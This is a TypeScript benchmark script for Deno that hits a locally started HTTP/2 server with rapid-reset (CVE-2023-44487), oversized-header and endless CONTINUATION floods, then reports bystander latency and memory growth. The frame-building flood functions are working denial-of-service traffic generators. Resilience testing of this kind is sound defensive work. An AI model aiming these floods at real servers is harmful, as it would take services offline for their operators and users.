/**
 * Floods over HTTP/2: `deno run -A bench/http2_floods.ts [ROUNDS]`
 *
 * Four clients, as fast as they can, each connecting anew where it is cut: requests that are taken
 * back at once (CVE-2023-44487), requests with 60 fields of 200 bytes each, and header blocks that
 * never end (CONTINUATION). A line for each: the others' p99 beside it and without it, in turns, and
 * how much the server's memory (Pss) was up at its peak and after it.
 */

import { startAttacked } from "./attacked_server.ts";
import { compare, type Latency, watch } from "./bystanders.ts";
import { treePss } from "./cpu.ts";
import { CANCEL, concat, Flag, frame, FrameType, headerBlock, PREFACE } from "./http2_frames.ts";
import { median } from "./summary.ts";

const CLIENTS = 4;
const SECONDS = 5;
/** Requests, or frames, that are written at once. */
const BURST = 100;
const LOOK_MS = 100;
const AUTHORITY = { ":method": "GET", ":scheme": "http", ":path": "/", ":authority": "bench" };
const PLAIN = headerBlock(AUTHORITY);
const FILLER = Object.fromEntries(
  Array.from({ length: 60 }, (_, i) => [`x-field-${i}`, "x".repeat(200)]),
);
const LARGE = headerBlock({ ...AUTHORITY, ...FILLER });
const CHUNK = headerBlock(FILLER);

const { headers, reset, settings, continuation } = FrameType;

/** What a client writes next; `stream` is the first number that it has not used. */
type Flood = (stream: number) => Uint8Array;

const odd = (stream: number, of: (stream: number) => Uint8Array[]) =>
  concat(Array.from({ length: BURST }, (_, i) => of(stream + 2 * i)).flat());

const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": (first) =>
    odd(first, (stream) => [
      frame(headers, Flag.endHeaders | Flag.endStream, stream, PLAIN),
      frame(reset, Flag.none, stream, CANCEL),
    ]),
  "header flood": (first) =>
    odd(first, (stream) => [frame(headers, Flag.endHeaders | Flag.endStream, stream, LARGE)]),
  "CONTINUATION flood": (first) =>
    concat([
      ...(first === 1 ? [frame(headers, Flag.endStream, 1, PLAIN)] : []),
      ...Array.from({ length: BURST }, () => frame(continuation, Flag.none, 1, CHUNK)),
    ]),
};

const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** One connection's worth. Returns how much it could send before it was cut. */
async function flood(port: number, next: Flood, end: number): Promise<number> {
  let sent = 0;
  using connection = await Deno.connect({ hostname: "127.0.0.1", port });
  const drained = (async () => {
    const buffer = new Uint8Array(65_536);
    while (await connection.read(buffer) !== null);
  })().catch(() => {});
  try {
    await connection.write(concat([PREFACE, frame(settings, Flag.none, 0)]));
    for (let stream = 1; performance.now() < end; stream += 2 * BURST) {
      const bytes = next(stream);
      for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
      sent += bytes.length;
    }
    await connection.closeWrite();
    await drained;
  } catch {
    // Cut, as it should be.
  }
  return sent;
}

async function attack(port: number, next: Flood): Promise<{ connections: number; sent: number }> {
  const end = performance.now() + (SECONDS + 1) * 1_000;
  let [connections, sent] = [0, 0];
  await Promise.all(Array.from({ length: CLIENTS }, async () => {
    while (performance.now() < end) {
      connections++;
      sent += await flood(port, next, end).catch(() => 0);
    }
  }));
  return { connections, sent };
}

for (const [name, next] of Object.entries(FLOODS)) {
  const [quiet, attacked]: [Latency[], Latency[]] = [[], []];
  const [peaks, lasting, totals, counts]: number[][] = [[], [], [], []];
  for (let round = 0; round < Number(Deno.args[0] ?? 3); round++) {
    await using server = await startAttacked();
    await watch(server.port, 2); // warms up
    quiet.push(await watch(server.port, SECONDS));
    const before = treePss(server.pid);
    let peak = before;
    const sampler = setInterval(() => peak = Math.max(peak, treePss(server.pid)), LOOK_MS);
    const over = attack(server.port, next);
    await pause(500);
    attacked.push(await watch(server.port, SECONDS));
    const { connections, sent } = await over;
    clearInterval(sampler);
    await pause(1_000);
    peaks!.push((peak - before) / 1e6);
    lasting!.push((treePss(server.pid) - before) / 1e6);
    totals!.push(sent / 1e6);
    counts!.push(connections);
  }
  const of = (list: number[] | undefined) => median(list!).toFixed(0);
  console.log(
    `${name}: ${compare(quiet, attacked)}; memory +${of(peaks)} MB at most, +${
      of(lasting)
    } after; ` +
      `${of(counts)} connections were cut, ${of(totals)} MB sent`,
  );
}
